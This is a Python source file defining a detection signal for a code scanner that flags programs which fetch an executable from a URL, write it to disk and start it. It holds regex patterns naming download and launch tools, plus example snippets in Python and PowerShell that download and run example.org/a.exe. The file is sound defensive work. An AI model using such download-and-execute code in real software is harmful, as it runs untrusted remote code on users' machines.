"""A program fetched to disk and started."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, in_files
from hunkwise.signals.tables.languages import CODE

_PROGRAM = re.compile(
    r"https?://[^\s\"'`<>|)]{3,200}?\.(?P<kind>exe|scr|dll|bat|cmd|vbs|vbe|hta|msi|ps1|jar|elf|pyw|bin|com|lnk|sh|py|pyc"
    r"|jse?|wsf|appimage)(?=[\"'`\s)?#&|;<]|$)"
)
_NAMED = re.compile(r"[\"'`][^\"'`\n]{0,120}?\.(?P<kind>exe|scr|bat|vbs|hta|msi|ps1|pyw|dll|elf)[\"'`]", re.I)
_WRITES = re.compile(
    r"open\([^\n]{0,120}?[\"']w?b\+?w?[\"']|\.write\(|urlretrieve|createWriteStream|writeFile|DownloadFile|-OutFile|-o\s+\S"
    r"|--output|wget\s|Start-BitsTransfer|SaveToFile|URLDownloadToFile|\.pipe\(|WriteAllBytes|file_put_contents|iwr\b"
    r"|Invoke-WebRequest",
    re.I,
)
_HARD = frozenset({"exe", "scr", "dll", "bat", "cmd", "vbs", "vbe", "hta", "msi", "ps1", "pyw", "com", "lnk", "elf", "jse", "wsf"})
_STARTED = re.compile(
    r"Start-Process|\bsaps\b|\.ShellExecute|\.Run\b|Invoke-Item|\bii\s|start\s+/b|&\s*\$\w+|rundll32|regsvr32|mshta"
    r"|os\.startfile|chmod\s+\+?[7x]|CreateProcess|WinExec",
    re.I,
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    found = _PROGRAM.search(view.text)
    fetches = view.calls("fetch") or re.search(
        r"curl|wget|invoke-webrequest|downloadfile|iwr\b|bitsadmin|urldownloadtofile|xmlhttp", view.lower
    )
    if not found and fetches:
        found = _NAMED.search(view.text) if re.search(r"https?://", view.text) else None
    if not found or not fetches or not _WRITES.search(view.text):
        return
    starts, words = view.calls("start"), _STARTED.search(view.text)
    if not starts and not words:
        return
    hard = found["kind"].lower() in _HARD
    sink = starts[0].path if starts else words[0] if words else ""
    lines = tuple(sorted({view.line(found.start()), starts[0].line if starts else view.line(words.start() if words else 0)}))
    long = len(view.numbers) > 400
    yield Sighting(lines, {"source": found[0][:90], "sink": sink[:40]}, strength=(0.9 if hard else 0.45) * (0.5 if long else 1.0))


_see = in_files(
    _look,
    ".exe",
    ".scr",
    ".dll",
    ".bat",
    ".cmd",
    ".vbs",
    ".hta",
    ".msi",
    ".ps1",
    ".jar",
    ".elf",
    ".pyw",
    ".bin",
    ".sh",
    ".py",
    ".js",
    ".lnk",
    ".com",
)


SIGNAL = Signal(
    id="fetched-program-started",
    title="A program fetched to disk and started",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE | {"batch", "html"},
    promise="Tells of a file that names the address of a program or script, writes what it fetches, and starts it.",
    why="What runs is decided elsewhere and later, and can be another thing for each victim.",
    quiet="Fetching without starting, starting without fetching, archives and data.",
    remedy="Ship the program with the change, or fetch a fixed version and check its digest before running it.",
    cause="`{source}` is fetched, written and started by `{sink}`.",
    since="0.2",
    maturity="stable",
    cwe="CWE-494",
    tactic="T1105",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import os\n"
            "import subprocess\n"
            "import urllib.request\n"
            "\n"
            'answer = urllib.request.urlopen("https://example.org/a.exe")\n'
            'with open("a.exe", "wb") as out:\n'
            "    out.write(answer.read())\n"
            'subprocess.call(["a.exe"])\n',
            line=5,
        ),
        Example(
            "powershell",
            "$c = New-Object System.Net.WebClient\n"
            '$c.DownloadFile("https://example.org/a.exe", "$env:TEMP\\a.exe")\n'
            'Start-Process "$env:TEMP\\a.exe"\n',
            line=2,
        ),
    ),
    stays_quiet=(
        Example(
            "python",
            "import urllib.request\n"
            "\n"
            'answer = urllib.request.urlopen("https://example.org/a.json")\n'
            'with open("a.json", "wb") as out:\n'
            "    out.write(answer.read())\n",
        ),
        Example("python", 'import subprocess\n\ndef build():\n    subprocess.call(["a.exe", "--check"])\n'),
    ),
)
